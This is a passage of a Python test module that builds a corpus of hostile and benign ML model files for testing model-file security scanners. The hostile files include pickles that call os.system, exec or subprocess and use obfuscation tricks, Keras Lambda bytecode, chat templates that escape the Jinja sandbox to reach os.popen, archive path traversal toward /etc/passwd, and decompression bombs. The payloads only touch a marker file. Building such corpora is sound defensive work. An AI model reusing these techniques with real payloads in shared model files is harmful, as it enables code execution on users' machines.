"""A corpus of hostile and benign model files, for testing scanners (aisec's and its peers').

Every hostile sample whose technique runs code carries a payload that, if the file were ever
loaded, would create the file ``marker``; a scanner that executes what it scans is caught by
checking that the marker never appears. Benign samples are written by the real libraries
(torch, numpy, scikit-learn/joblib, safetensors). Writing the files never loads or runs them.

It lives with the tests, not in the installed package. pytest puts this folder on
``sys.path`` for the tests beside it; other callers (the benchmarks) add it themselves::

    from corpus import write_corpus
    samples = write_corpus(Path("corpus"), marker=Path("/tmp/marker"))
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

CODE_EXEC = "code-execution"
ARCHIVE = "archive"
CORRUPT = "corrupt-header"
CONFIG = "config-code"


@dataclass(frozen=True)
class Sample:
    """One corpus file."""

    name: str
    """File name inside the corpus folder."""
    technique: str
    """What the sample does (or, for benign files, which library wrote it)."""
    malicious: bool
    """True for hostile samples."""
    category: str = ""
    """code-execution, archive, corrupt-header or config-code for hostile samples."""
    large: bool = False
    """True for the large benign checkpoints used for throughput."""


# -- a tiny pickle assembler ----------------------------------------------------------------
def _s(text: str) -> bytes:
    raw = text.encode()
    return (
        (b"\x8c" + bytes([len(raw)]) + raw)
        if len(raw) < 256
        else (b"X" + struct.pack("<I", len(raw)) + raw)
    )


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


_P4 = b"\x80\x04"


def _cmd(marker: Path) -> str:
    return f"touch {marker}"


def _pycode(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# -- hostile pickles --------------------------------------------------------------------------
def _hostile_pickles(marker: Path) -> list[tuple[str, str, bytes]]:
    cmd, code = _cmd(marker), _pycode(marker)
    inner = _P4 + _call(_sg("os", "system"), _s(cmd)) + b"."
    code_obj = marshal.dumps(compile(code, "<payload>", "exec"))
    out = [
        (
            "p0_global_os_system.pkl",
            "GLOBAL os.system + REDUCE, protocol 0",
            b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR.",
        ),
        (
            "p4_stack_global_posix.pkl",
            "STACK_GLOBAL posix.system, protocol 4",
            _P4 + _call(_sg("posix", "system"), _s(cmd)) + b".",
        ),
        (
            "subprocess_popen.pkl",
            "subprocess.Popen through REDUCE",
            _P4
            + _call(_sg("subprocess", "Popen"), b"]" + b"(" + _s("touch") + _s(str(marker)) + b"e")
            + b".",
        ),
        (
            "builtins_exec.pkl",
            "builtins.exec of Python source",
            _P4 + _call(_sg("builtins", "exec"), _s(code)) + b".",
        ),
        (
            "builtins_eval.pkl",
            "builtins.eval of an expression",
            _P4 + _call(_sg("builtins", "eval"), _s(f"__import__('os').system({cmd!r})")) + b".",
        ),
        (
            "builtins_open_write.pkl",
            "builtins.open in write mode creates a file",
            _P4 + _call(_sg("builtins", "open"), _s(str(marker)), _s("w")) + b".",
        ),
        (
            "import_then_getattr.pkl",
            "__import__('os') then getattr(..., 'system')",
            _P4
            + _call(
                _call(
                    _sg("builtins", "getattr"),
                    _call(_sg("builtins", "__import__"), _s("os")),
                    _s("system"),
                ),
                _s(cmd),
            )
            + b".",
        ),
        (
            "memo_names.pkl",
            "module and name strings reached through the memo (PUT/GET)",
            _P4
            + _s("os")
            + b"\x94"
            + b"0"
            + _s("system")
            + b"\x94"
            + b"0"
            + b"h\x00h\x01\x93"
            + b"("
            + _s(cmd)
            + b"tR.",
        ),
        (
            "concat_names.pkl",
            "module name built by operator.add at load time",
            _P4
            + _call(_sg("operator", "add"), _s("o"), _s("s"))
            + _s("system")
            + b"\x93("
            + _s(cmd)
            + b"tR.",
        ),
        (
            "join_names.pkl",
            "name built with str.join reached through getattr",
            _P4
            + _call(
                _call(_sg("builtins", "getattr"), _s(""), _s("join")),
                b"]" + b"(" + _s("sys") + _s("tem") + b"e",
            )
            + b"\x94"
            + b"0"
            + _s("os")
            + b"h\x00\x93("
            + _s(cmd)
            + b"tR.",
        ),
        (
            "inst_opcode.pkl",
            "INST opcode (protocol 0) calls os.system",
            b"(S'" + cmd.encode() + b"'\nios\nsystem\n.",
        ),
        (
            "obj_opcode.pkl",
            "OBJ opcode calls os.system",
            b"\x80\x02("
            + _g("os", "system")
            + b"X"
            + struct.pack("<I", len(cmd))
            + cmd.encode()
            + b"o.",
        ),
        (
            "newobj_popen.pkl",
            "NEWOBJ instantiates subprocess.Popen",
            _P4
            + _sg("subprocess", "Popen")
            + b"]"
            + b"("
            + _s("touch")
            + _s(str(marker))
            + b"e\x85\x81.",
        ),
        (
            "newobj_ex_popen.pkl",
            "NEWOBJ_EX instantiates subprocess.Popen",
            _P4
            + _sg("subprocess", "Popen")
            + b"]"
            + b"("
            + _s("touch")
            + _s(str(marker))
            + b"e\x85}\x92.",
        ),
        (
            "ext_opcode.pkl",
            "EXT1 opcode: callable from the copyreg extension registry",
            b"\x80\x02\x82\x01(" + _s(cmd) + b"tR.",
        ),
        (
            "nested_pickle_loads.pkl",
            "pickle.loads of an embedded hostile pickle",
            _P4 + _call(_sg("pickle", "loads"), b"C" + bytes([len(inner)]) + inner) + b".",
        ),
        (
            "nested_underscore_pickle.pkl",
            "_pickle.loads of an embedded protocol-0 pickle",
            b"\x80\x02"
            + _g("_pickle", "loads")
            + b"(C"
            + bytes([len(b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR.")])
            + b"cos\nsystem\n(S'"
            + cmd.encode()
            + b"'\ntR."
            + b"tR.",
        ),
        (
            "cprofile_run.pkl",
            "cProfile.run executes a statement",
            _P4 + _call(_sg("cProfile", "run"), _s(code)) + b".",
        ),
        (
            "timeit_timeit.pkl",
            "timeit.timeit executes a statement",
            _P4 + _call(_sg("timeit", "timeit"), _s(code), _s("pass"), b"N", b"K\x01") + b".",
        ),
        (
            "profile_run.pkl",
            "profile.run executes a statement",
            _P4 + _call(_sg("profile", "run"), _s(code)) + b".",
        ),
        (
            "pty_spawn.pkl",
            "pty.spawn runs a program",
            _P4
            + _call(_sg("pty", "spawn"), b"]" + b"(" + _s("touch") + _s(str(marker)) + b"e")
            + b".",
        ),
        (
            "pydoc_pipepager.pkl",
            "pydoc.pipepager runs a shell command",
            _P4 + _call(_sg("pydoc", "pipepager"), _s(""), _s(cmd)) + b".",
        ),
        (
            "numpy_runstring.pkl",
            "numpy.testing runstring executes source",
            _P4 + _call(_sg("numpy.testing._private.utils", "runstring"), _s(code), b"}") + b".",
        ),
        (
            "marshal_function.pkl",
            "types.FunctionType over a marshalled code object",
            _P4
            + _call(
                _call(
                    _sg("types", "FunctionType"),
                    _call(
                        _sg("marshal", "loads"), b"B" + struct.pack("<I", len(code_obj)) + code_obj
                    ),
                    b"}",
                )
            )
            + b".",
        ),
        (
            "dotted_module_path.pkl",
            "pickle.loads reached as torch.serialization.pickle.loads",
            _P4
            + _call(_sg("torch.serialization", "pickle.loads"), b"C" + bytes([len(inner)]) + inner)
            + b".",
        ),
        (
            "dunder_path.pkl",
            "builtins reached through print.__self__, then exec",
            _P4
            + _call(
                _call(_sg("builtins", "getattr"), _sg("builtins", "print.__self__"), _s("exec")),
                _s(code),
            )
            + b".",
        ),
        (
            "unknown_module.pkl",
            "callable from a module on no list (not allowlisted)",
            _P4 + _call(_sg("aisec_corpus_plugin", "install"), _s(cmd)) + b".",
        ),
        (
            "runpy_run_path.pkl",
            "runpy.run_path runs a script",
            _P4 + _call(_sg("runpy", "run_path"), _s(str(marker) + ".py")) + b".",
        ),
        (
            "torch_load_nested.pkl",
            "torch.load of an embedded stream through io.BytesIO",
            _P4
            + _call(
                _sg("torch", "load"),
                _call(_sg("io", "BytesIO"), b"C" + bytes([len(inner)]) + inner),
            )
            + b".",
        ),
        (
            "binstring_names.pkl",
            "protocol 0/1 string opcodes feed a protocol-4 STACK_GLOBAL",
            _P4
            + b"U\x02os"
            + b"U\x06system"
            + b"\x93(U"
            + bytes([len(cmd)])
            + cmd.encode()
            + b"tR.",
        ),
        (
            "webbrowser_open.pkl",
            "webbrowser.open launches a program",
            _P4 + _call(_sg("webbrowser", "open"), _s("file://" + str(marker))) + b".",
        ),
        (
            "p0_string_first_no_proto.bin",
            "no PROTO header: a string opcode first, then STACK_GLOBAL os.system",
            b"S'os'\nS'system'\n\x93S'" + cmd.encode() + b"'\n\x85R.",
        ),
        (
            "p0_unicode_first_no_extension",
            "no PROTO header and no extension: UNICODE opcodes, STACK_GLOBAL os.system",
            b"Vos\nVsystem\n\x93V" + cmd.encode() + b"\n\x85R.",
        ),
        (
            "p0_int_first.model",
            "no PROTO header: an INT and a POP first, then STACK_GLOBAL os.system",
            b"I0\n0S'os'\nS'system'\n\x93S'" + cmd.encode() + b"'\n\x85R.",
        ),
        (
            "p0_truncated_after_reduce.dat",
            "REDUCE of os.system before the stream breaks off without STOP (the loader has run it)",
            b"S'os'\nS'system'\n\x93S'" + cmd.encode() + b"'\n\x85R",
        ),
        (
            "hidden_raw_pickle.pkl",
            "a pickle stored as raw bytes in another pickle's data",
            _P4
            + b"}"
            + _s("weights")
            + b"]"
            + _s("blob")
            + b"C"
            + bytes([len(inner)])
            + inner
            + b"\x87.",
        ),
        (
            "hidden_hex_pickle.pkl",
            "a pickle stored as a hex string in another pickle's data",
            _P4 + _s("payload") + _s(inner.hex()) + b"\x86.",
        ),
        (
            "hidden_base64_pickle.pkl",
            "a protocol-0 pickle stored as base64 in another pickle's data",
            _P4
            + _s("payload")
            + _s(base64.b64encode(b"cos\nsystem\n(S'" + cmd.encode() + b"'\ntR.").decode())
            + b"\x86.",
        ),
        (
            "frame_straddle.pkl",
            "bytes that run past their FRAME hide os.system for a loader that honours frames",
            _frame_straddle(cmd),
        ),
        (
            "frame_overlap.pkl",
            "a FRAME that starts inside the previous frame, around a STACK_GLOBAL os.system",
            _P4
            + b"\x95"
            + struct.pack("<Q", 40)
            + b"\x95"
            + struct.pack("<Q", 40)
            + _call(_sg("os", "system"), _s(cmd))
            + b".",
        ),
        (
            "torch_config_module.pkl",
            "torch.utils._config_module.ConfigModule, a library class that runs config code",
            _P4 + _call(_sg("torch.utils._config_module", "ConfigModule")) + b".",
        ),
        (
            "asyncio_subprocess.pkl",
            "asyncio.subprocess helper (a picklescan advisory)",
            _P4
            + _call(
                _sg("asyncio.unix_events", "_UnixSelectorEventLoop._make_subprocess_transport"),
                _s(cmd),
            )
            + b".",
        ),
    ]
    return out


def _billion_laughs() -> bytes:
    """A 200-byte pickle whose result, walked as a tree, has more than 10**9 objects."""
    out = _P4 + b"](" + b"N" * 10 + b"e\x94"
    for level in range(1, 9):
        out += b"](" + (b"h" + bytes([level - 1])) * 10 + b"e\x94"
    return out + b"."


def _frame_straddle(cmd: str) -> bytes:
    """A frame ends inside a SHORT_BINBYTES; from the frame's end on, the bytes are opcodes."""
    payload = _call(_sg("os", "system"), _s(cmd)) + b"."
    lead = _s("x") + b"0"  # push and pop a string
    junk = b"\x00" * 6
    framed = lead + b"C" + bytes([len(junk) + len(payload)]) + junk
    return _P4 + b"\x95" + struct.pack("<Q", len(framed)) + framed + payload + b"0N."


# -- helpers for containers -------------------------------------------------------------------
def _zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def _tar(
    members: list[tuple[str, bytes]], mode: str = "w", links: list[tuple[str, str]] = ()
) -> bytes:  # type: ignore[assignment]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def _npy_float() -> bytes:
    """A 1x3 float64 .npy file, written by hand."""
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1, 3), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + bytes(24)


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _pb_varint(v: int) -> bytes:
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def _pb(num: int, value: int | bytes | str) -> bytes:
    if isinstance(value, int):
        return _pb_varint(num << 3) + _pb_varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _pb_varint(num << 3 | 2) + _pb_varint(len(raw)) + raw


def saved_model(ops: list[tuple[str, str]], function_ops: list[tuple[str, str]] = ()) -> bytes:
    """A TensorFlow SavedModel protobuf whose graph holds ``(name, op)`` nodes, and a function
    library holding ``function_ops`` (written by hand; TensorFlow is not needed)."""
    nodes = b"".join(_pb(1, _pb(1, name) + _pb(2, op)) for name, op in ops)
    fn_nodes = b"".join(_pb(3, _pb(1, name) + _pb(2, op)) for name, op in function_ops)
    library = _pb(2, _pb(1, _pb(1, _pb(1, "fn")) + fn_nodes)) if function_ops else b""
    return _pb(1, 1) + _pb(2, _pb(2, nodes + library))


def onnx_model(location: str | None = None, domain: str = "", metadata: bytes = b"") -> bytes:
    """A minimal ONNX ModelProto (Identity graph, one initializer) in protobuf wire format."""
    tensor = _pb(1, 1) + _pb(2, 1) + _pb(8, "w")
    if location is not None:
        tensor += _pb(13, _pb(1, "location") + _pb(2, location)) + _pb(14, 1)
    else:
        tensor += _pb(9, struct.pack("<f", 1.0))
    node = _pb(1, "x") + _pb(2, "y") + _pb(4, "Identity") + (_pb(7, domain) if domain else b"")
    graph = _pb(1, node) + _pb(2, "g") + _pb(5, tensor)
    model = _pb(1, 8) + _pb(2, "aisec-corpus") + _pb(7, graph) + _pb(8, _pb(1, "") + _pb(2, 17))
    if domain:
        model += _pb(8, _pb(1, domain) + _pb(2, 1))
    if metadata:
        model += _pb(14, _pb(1, "notes") + _pb(2, metadata))
    return model


def gguf_file(template: str) -> bytes:
    """A GGUF v3 header with an architecture key and a chat template, no tensors."""

    def gstr(s: str) -> bytes:
        raw = s.encode()
        return struct.pack("<Q", len(raw)) + raw

    kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for k, v in kvs:
        body += gstr(k) + struct.pack("<I", 8) + gstr(v)
    return body


def _keras_zip(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "registered_name": None,
    }
    meta = {"keras_version": "3.3.3", "date_saved": "2024-05-01@12:00:00"}
    return _zip(
        [
            ("metadata.json", json.dumps(meta).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 504),
        ]
    )


def _dense(name: str, units: int) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": name, "units": units, "activation": "relu"},
    }


def _lambda_layer(marker: Path) -> dict[str, object]:
    code = compile(f"lambda x: (open({str(marker)!r}, 'w'), x)[1]", "<lambda>", "eval")
    fn = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": fn, "defaults": None, "closure": None},
            },
        },
    }


def _hostile_containers(marker: Path) -> list[tuple[str, str, str, bytes]]:
    cmd = _cmd(marker)
    evil = _P4 + _call(_sg("os", "system"), _s(cmd)) + b"."
    benign = pickle.dumps({"weights": [1.0, 2.0]}, protocol=4)
    lambda_cfg = {
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [_dense("d", 4), _lambda_layer(marker)]},
    }
    h5 = b"\x89HDF\r\n\x1a\n" + b"\x00" * 120 + json.dumps(lambda_cfg).encode() + b"\x00" * 64
    legacy_magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    big_zero = b"\x00" * (80 << 20)
    return [
        (
            CODE_EXEC,
            "torch_renamed_folder.pt",
            "PyTorch zip whose folder is renamed",
            _zip(
                [
                    ("my_weights/data.pkl", evil),
                    ("my_weights/version", b"3\n"),
                    ("my_weights/data/0", b"\x00" * 64),
                ]
            ),
        ),
        (
            CODE_EXEC,
            "torch_zip_payload.pth",
            "PyTorch zip with a hostile data.pkl",
            _zip([("archive/data.pkl", evil), ("archive/version", b"3\n")]),
        ),
        (
            CODE_EXEC,
            "torch_legacy_payload.pt",
            "legacy torch.save: payload in the object pickle",
            legacy_magic
            + pickle.dumps(1001, protocol=2)
            + pickle.dumps({}, protocol=2)
            + evil
            + pickle.dumps([], protocol=2),
        ),
        (CODE_EXEC, "second_pickle.pkl", "benign pickle followed by a hostile one", benign + evil),
        (CODE_EXEC, "joblib_payload.joblib", "joblib-style stream with a payload", evil),
        (
            CODE_EXEC,
            "joblib_zlib.joblib",
            "zlib-compressed joblib with a payload",
            zlib.compress(evil),
        ),
        (
            CODE_EXEC,
            "gzip_pickle.pkl.gz",
            "gzip-compressed hostile pickle",
            __import__("gzip").compress(evil),
        ),
        (CODE_EXEC, "object_array.npy", "NumPy object array carrying a payload", _npy_object(evil)),
        (
            CODE_EXEC,
            "object_array.npz",
            "object array inside an .npz",
            _zip([("x.npy", _npy_object(evil))]),
        ),
        (
            CODE_EXEC,
            "nested_zip.zip",
            "hostile pickle in a zip inside a zip",
            _zip([("inner.zip", _zip([("model.pkl", evil)]))], zipfile.ZIP_DEFLATED),
        ),
        (
            CODE_EXEC,
            "pickle_in_tar.tar",
            "hostile pickle inside a tar",
            _tar([("model/model.pkl", evil)]),
        ),
        (
            CODE_EXEC,
            "pickle_in_tgz.tar.gz",
            "hostile pickle inside a gzip-compressed tar",
            _tar([("model/model.pkl", evil)], "w:gz"),
        ),
        (CODE_EXEC, "disguised.safetensors", "pickle disguised as a .safetensors file", evil),
        (
            CONFIG,
            "keras_lambda.keras",
            "Keras v3 zip with a Lambda layer holding bytecode",
            _keras_zip([_dense("d", 4), _lambda_layer(marker)]),
        ),
        (CONFIG, "keras_lambda_legacy.h5", "legacy HDF5 model_config with a Lambda layer", h5),
        (
            CONFIG,
            "keras_custom_os.keras",
            "Keras custom object naming the os module",
            _keras_zip(
                [
                    {
                        "module": "os",
                        "class_name": "system",
                        "registered_name": None,
                        "config": {"command": cmd},
                    }
                ]
            ),
        ),
        (
            ARCHIVE,
            "onnx_traversal.onnx",
            "ONNX external data path with ../ traversal",
            onnx_model(location="../../../../etc/passwd"),
        ),
        (
            ARCHIVE,
            "onnx_absolute.onnx",
            "ONNX external data at an absolute path",
            onnx_model(location="/etc/shadow"),
        ),
        (
            ARCHIVE,
            "zip_traversal.zip",
            "zip member named ../../",
            _zip([("../../.bashrc", b"touch " + str(marker).encode())]),
        ),
        (
            ARCHIVE,
            "tar_traversal.tar",
            "tar member with an absolute path",
            _tar([("/tmp/evil.sh", b"touch " + str(marker).encode())]),
        ),
        (
            ARCHIVE,
            "tar_symlink.tar",
            "tar symbolic link out of the folder",
            _tar([], links=[("model.bin", "/etc/passwd")]),
        ),
        (
            ARCHIVE,
            "zip_bomb.zip",
            "zip member inflating 80 MiB from a few KiB",
            _zip([("weights.bin", big_zero)], zipfile.ZIP_DEFLATED),
        ),
        (
            ARCHIVE,
            "gzip_bomb.pkl.gz",
            "gzip stream inflating 80 MiB",
            __import__("gzip").compress(big_zero, 9),
        ),
        (
            CORRUPT,
            "st_header_past_end.safetensors",
            "safetensors header length past the end",
            struct.pack("<Q", 1 << 40) + b'{"a":1}',
        ),
        (
            CORRUPT,
            "st_overlap.safetensors",
            "safetensors tensors that overlap",
            _safetensors_raw(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                },
                12,
            ),
        ),
        (
            CORRUPT,
            "st_bad_json.safetensors",
            "safetensors header that is not JSON",
            struct.pack("<Q", 10) + b"{not json}" + b"\x00" * 8,
        ),
        (
            CORRUPT,
            "st_wrong_size.safetensors",
            "safetensors shape inconsistent with offsets",
            _safetensors_raw({"a": {"dtype": "F32", "shape": [100], "data_offsets": [0, 8]}}, 8),
        ),
        (
            CONFIG,
            "gguf_ssti.gguf",
            "GGUF chat template reaching __subclasses__",
            gguf_file(
                "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}"
                "{{ m['content'] }}{% endfor %}"
            ),
        ),
        (
            CONFIG,
            "gguf_attr_escape.gguf",
            "GGUF template using attr() with escaped underscores",
            gguf_file("{{ cycler|attr('\\x5f\\x5finit\\x5f\\x5f') }}"),
        ),
        (
            CORRUPT,
            "gguf_truncated.gguf",
            "GGUF metadata count larger than the file",
            b"GGUF" + struct.pack("<IQQ", 3, 0, 5) + struct.pack("<Q", 1 << 50),
        ),
        (CORRUPT, "truncated.pkl", "hostile pickle cut before STOP", evil[:-3]),
        (CORRUPT, "bad_opcode.pkl", "pickle with an undefined opcode", _P4 + b"\xff" + evil[2:]),
        (
            ARCHIVE,
            "billion_laughs.pkl",
            "nine levels of lists that each hold the previous level ten times, by memo reference",
            _billion_laughs(),
        ),
        (
            CONFIG,
            "skops_function_os_system.skops",
            "skops schema whose FunctionNode rebuilds os.system",
            _zip(
                [
                    (
                        "schema.json",
                        json.dumps(
                            {
                                "__class__": "function",
                                "__module__": "builtins",
                                "__loader__": "FunctionNode",
                                "content": {"module_path": "os", "function": "system"},
                                "protocol": 1,
                                "_skops_version": "0.10.0",
                            }
                        ).encode(),
                    )
                ]
            ),
        ),
        (
            ARCHIVE,
            "p0_member_without_extension.zip",
            "a zip member named without extension holding a PROTO-less pickle of os.system",
            _zip([("weights", b"S'os'\nS'system'\n\x93S'" + cmd.encode() + b"'\n\x85R.")]),
        ),
        (
            CONFIG,
            "savedmodel_pyfunc/saved_model.pb",
            "SavedModel graph with a PyFunc node and an EagerPyFunc in its function library",
            saved_model(
                [("x", "Placeholder"), ("hook", "PyFunc"), ("y", "MatMul")],
                [("inner", "EagerPyFunc")],
            ),
        ),
        (
            CONFIG,
            "savedmodel_writefile/saved_model.pb",
            "SavedModel graph that writes a file when it runs",
            saved_model([("x", "Placeholder"), ("drop", "WriteFile")]),
        ),
        (
            CONFIG,
            "tokenizer_format_bypass/tokenizer_config.json",
            "tokenizer_config.json chat template naming __class__ through the format filter",
            json.dumps(
                {
                    "bos_token": "<s>",
                    "chat_template": "{{ ()|attr('%c%cclass%c%c'|format(95,95,95,95)) }}"
                    "{% for m in messages %}{{ m['content'] }}{% endfor %}",
                }
            ).encode(),
        ),
        (
            CONFIG,
            "tokenizer_named_templates/tokenizer_config.json",
            "a second named chat template that reaches os.popen through cycler",
            json.dumps(
                {
                    "chat_template": [
                        {"name": "default", "template": _CHATML},
                        {
                            "name": "tool_use",
                            "template": "{{ cycler.__init__.__globals__.os.popen('"
                            + cmd
                            + "').read() }}",
                        },
                    ]
                }
            ).encode(),
        ),
        (
            CONFIG,
            "chat_template_concat/chat_template.jinja",
            "standalone chat template building __globals__ from pieces joined with ~",
            (
                "{{ lipsum|attr('_' ~ '_glo' ~ 'bals__')|attr('get')('o' ~ 's')"
                "|attr('popen')('" + cmd + "') }}"
            ).encode(),
        ),
    ]


_CHATML = (
    "{% for m in messages %}{{ '<|im_start|>' ~ m['role'] ~ '\\n' ~ m['content'] ~ "
    "'<|im_end|>' ~ '\\n' }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
"""A ChatML chat template as tokenizer_config.json files ship it."""


def _safetensors_raw(header: dict[str, object], body: int) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * body


# -- benign files saved by real libraries ----------------------------------------------------
def _benign(large_mb: int) -> list[tuple[str, str, bytes, bool]]:
    import joblib
    import numpy as np
    import torch
    from safetensors.torch import save as st_save
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    torch.manual_seed(0)
    rng = np.random.default_rng(0)
    x = rng.normal(size=(120, 6))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    net = torch.nn.Sequential(
        torch.nn.Conv2d(1, 4, 3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(144, 10)
    )

    def tsave(obj: object, **kw: object) -> bytes:
        b = io.BytesIO()
        torch.save(obj, b, **kw)  # type: ignore[arg-type]
        return b.getvalue()

    def jdump(obj: object, **kw: object) -> bytes:
        b = io.BytesIO()
        joblib.dump(obj, b, **kw)  # type: ignore[arg-type]
        return b.getvalue()

    def npsave(fn: Callable[..., None], *a: object, **kw: object) -> bytes:
        b = io.BytesIO()
        fn(b, *a, **kw)
        return b.getvalue()

    lr = LogisticRegression().fit(x, y)
    rf = RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    out = [
        ("torch_state_dict.pt", "torch.save of a CNN state dict", tsave(net.state_dict()), False),
        (
            "torch_legacy.pt",
            "legacy torch.save of a state dict",
            tsave(net.state_dict(), _use_new_zipfile_serialization=False),
            False,
        ),
        (
            "torch_optimizer.pt",
            "torch.save of an optimizer state",
            tsave(torch.optim.Adam(net.parameters()).state_dict()),
            False,
        ),
        (
            "sklearn_logreg.pkl",
            "pickle.dumps of a fitted LogisticRegression",
            pickle.dumps(lr),
            False,
        ),
        ("sklearn_forest.joblib", "joblib.dump of a fitted RandomForest", jdump(rf), False),
        (
            "sklearn_pipeline.joblib.z",
            "joblib.dump(compress=3) of a fitted pipeline",
            jdump(pipe, compress=3),
            False,
        ),
        ("array.npy", "numpy.save of a float array", npsave(np.save, x), False),
        ("arrays.npz", "numpy.savez of two arrays", npsave(np.savez, x=x, y=y), False),
        (
            "arrays_compressed.npz",
            "numpy.savez_compressed",
            npsave(np.savez_compressed, x=x, y=y),
            False,
        ),
        (
            "model.safetensors",
            "safetensors.torch.save of a state dict",
            st_save(net.state_dict()),
            False,
        ),
        (
            "keras_like.keras",
            "Keras v3 zip layout with Dense layers",
            _keras_zip([_dense("d1", 8), _dense("d2", 2)]),
            False,
        ),
        (
            "plain_dict_p0.pkl",
            "pickle protocol 0 of a plain dict",
            pickle.dumps({"lr": 0.1, "layers": [1, 2]}, protocol=0),
            False,
        ),
        (
            "plain_dict_p2.pkl",
            "pickle protocol 2 of an OrderedDict",
            pickle.dumps(OrderedDict(a=1, b=(2.0, "x")), protocol=2),
            False,
        ),
        (
            "plain_p5.pkl",
            "pickle protocol 5 with bytes and sets",
            pickle.dumps({"b": b"abc" * 100, "s": {1, 2}, "f": frozenset({3})}, protocol=5),
            False,
        ),
        ("model.onnx", "minimal ONNX Identity model", onnx_model(), False),
        (
            "llama.gguf",
            "GGUF with a standard chat template",
            gguf_file(
                "{% for message in messages %}{{ '<|' + message['role'] + '|>' + "
                "message['content'] }}{% endfor %}{% if add_generation_prompt %}"
                "{{ '<|assistant|>' }}{% endif %}"
            ),
            False,
        ),
        (
            "bundle.tar.gz",
            "tar.gz of a state dict and a config",
            _tar(
                [
                    ("model/weights.pt", tsave(net.state_dict())),
                    ("model/config.json", b'{"layers": 4}'),
                ],
                "w:gz",
            ),
            False,
        ),
        ("config.json", "a JSON config", b'{"hidden": 128, "class_name": "Dense"}', False),
        (
            "scipy_sparse.pkl",
            "pickle.dumps of a scipy CSR matrix",
            pickle.dumps(__import__("scipy.sparse").sparse.csr_matrix(np.eye(4))),
            False,
        ),
    ]
    try:
        import pandas as pd

        frame = pd.DataFrame(
            {
                "x": x[:5, 0],
                "label": ["a", "b", "a", "b", "a"],
                "t": pd.date_range("2024-01-01", periods=5),
            }
        )
        out.append(
            ("pandas_frame.pkl", "pickle.dumps of a pandas DataFrame", pickle.dumps(frame), False)
        )
    except ImportError:  # pandas is optional
        pass
    out += [
        (
            "logreg.skops",
            "skops file of a logistic regression (schema written as skops writes it)",
            _zip(
                [
                    (
                        "schema.json",
                        json.dumps(
                            {
                                "__class__": "LogisticRegression",
                                "__module__": "sklearn.linear_model._logistic",
                                "__loader__": "ObjectNode",
                                "content": {
                                    "coef_": {
                                        "__class__": "ndarray",
                                        "__module__": "numpy",
                                        "__loader__": "NdArrayNode",
                                        "type": "numpy",
                                        "file": "coef.npy",
                                    },
                                    "C": 1.0,
                                },
                                "protocol": 1,
                                "_skops_version": "0.10.0",
                            }
                        ).encode(),
                    ),
                    ("coef.npy", _npy_float()),
                ]
            ),
            False,
        ),
        (
            "saved_model.pb",
            "SavedModel graph of a dense layer with its standard save and restore ops",
            saved_model(
                [
                    ("x", "Placeholder"),
                    ("w", "VarHandleOp"),
                    ("y", "MatMul"),
                    ("save", "SaveV2"),
                    ("restore", "RestoreV2"),
                ]
            ),
            False,
        ),
        (
            "tokenizer_config.json",
            "tokenizer_config.json with a ChatML chat template",
            json.dumps({"bos_token": "<s>", "chat_template": _CHATML}).encode(),
            False,
        ),
        (
            "chat_template.jinja",
            "standalone chat template using namespace() and loop",
            (
                b"{% set ns = namespace(system='') %}{% for m in messages %}"
